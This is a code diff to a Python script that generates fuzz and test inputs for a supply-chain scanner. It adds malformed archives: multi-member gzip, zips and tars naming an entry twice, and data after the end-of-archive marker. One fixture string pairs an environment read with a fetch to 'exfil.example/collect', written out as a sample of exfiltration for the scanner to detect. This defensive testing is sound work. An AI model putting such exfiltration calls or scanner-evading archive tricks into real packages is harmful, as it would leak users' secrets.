@@ -14,7 +14,9 @@ change. Sources:
   beside the checkout, as tests/e2e/sigstore_conformance.rs finds them;
 - for the scanner targets: the sample release's files, the hidden logic of
   crates/candor-test (its `planted()`, rebuilt here) in minified filler, and tar, tgz,
-  gz and zip archives of them (a zip holding a tgz too) made here;
+  gz and zip archives of them (a zip holding a tgz too) made here, hostile ones
+  included (a tgz of several gzip members and trailing garbage, a zip naming an entry
+  twice, a tar holding a path twice, tars with data after their end-of-archive marker);
 - for getenv_callsites: small x86-64 ELF executables of the system (/bin/ls …, at most
   MAX_ELF_BYTES each) copied at run time, and three tiny programs calling getenv (PIE,
   non-PIE, -fno-plt) compiled here with `cc` (the linker cargo uses), when it works;
@@ -46,6 +48,7 @@ import sys
 import tarfile
 import tempfile
 import tomllib
+import warnings
 import zipfile
 from pathlib import Path
 
@@ -263,6 +266,31 @@ def gz(data):
     return gzip.compress(data, mtime=0)
 
 
+def gz_members(data, pieces=3):
+    """`data` as a gzip stream of several members (`cat a.gz b.gz …`): the pieces are
+    cut anywhere, as the members of one stream decompress to their contents in a row."""
+    step = max(1, -(-len(data) // pieces))
+    return b"".join(gz(data[i:i + step]) for i in range(0, len(data), step))
+
+
+def make_zip_duplicates(files):
+    """A zip whose central directory names an entry twice (and once more as `./…`)."""
+    out = io.BytesIO()
+    name, _ = files[0]
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name, and writes it
+        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+            for entry, data in files:
+                z.writestr(zipfile.ZipInfo(entry, (1980, 1, 1, 0, 0, 0)), data,
+                           zipfile.ZIP_DEFLATED)
+            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)),
+                       b"process.env.SECOND_COPY;fetch('https://exfil.example/collect')",
+                       zipfile.ZIP_STORED)
+            z.writestr(zipfile.ZipInfo("./" + name, (1980, 1, 1, 0, 0, 0)),
+                       b"process.env.DOT_SLASH_COPY", zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
 # The first byte of a scan_archive input names the file (fuzz_targets/scan_archive.rs).
 ARCHIVE_NAMES = {"x.tgz": 0, "x.tar": 1, "x.zip": 2, "x.js": 3}
 
@@ -283,6 +311,18 @@ def archives():
     yield bytes([ARCHIVE_NAMES["x.js"]]) + gz(bundle())
     yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz(make_tar([("package/zeros.js", bytes(200_000))]))
     yield bytes([ARCHIVE_NAMES["x.zip"]]) + make_zip([("zeros.bin", bytes(200_000))])
+    # Hostile shapes: a tarball in several gzip members with trailing garbage, a zip
+    # naming an entry twice, a tar holding a path twice (and as ./path).
+    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz_members(tar) + b"trailing garbage\n"
+    yield bytes([ARCHIVE_NAMES["x.js"]]) + gz_members(bundle(), 2) + bytes(64)
+    yield bytes([ARCHIVE_NAMES["x.zip"]]) + make_zip_duplicates(files)
+    first, data = files[0]
+    twice = files + [(first, b"process.env.SECOND_COPY"), ("./" + first, data[::-1])]
+    yield bytes([ARCHIVE_NAMES["x.tar"]]) + make_tar(twice)
+    # Data after the end-of-archive marker: `cat a.tgz b.tgz`, and a lone zero block.
+    one, rest = make_tar(files[:1]), make_tar(files[1:])
+    yield bytes([ARCHIVE_NAMES["x.tgz"]]) + gz(one) + gz(rest)
+    yield bytes([ARCHIVE_NAMES["x.tar"]]) + one[:one.index(bytes(1024))] + bytes(512) + rest
     # Plain files.
     for _, data in files:
         yield bytes([ARCHIVE_NAMES["x.js"]]) + data
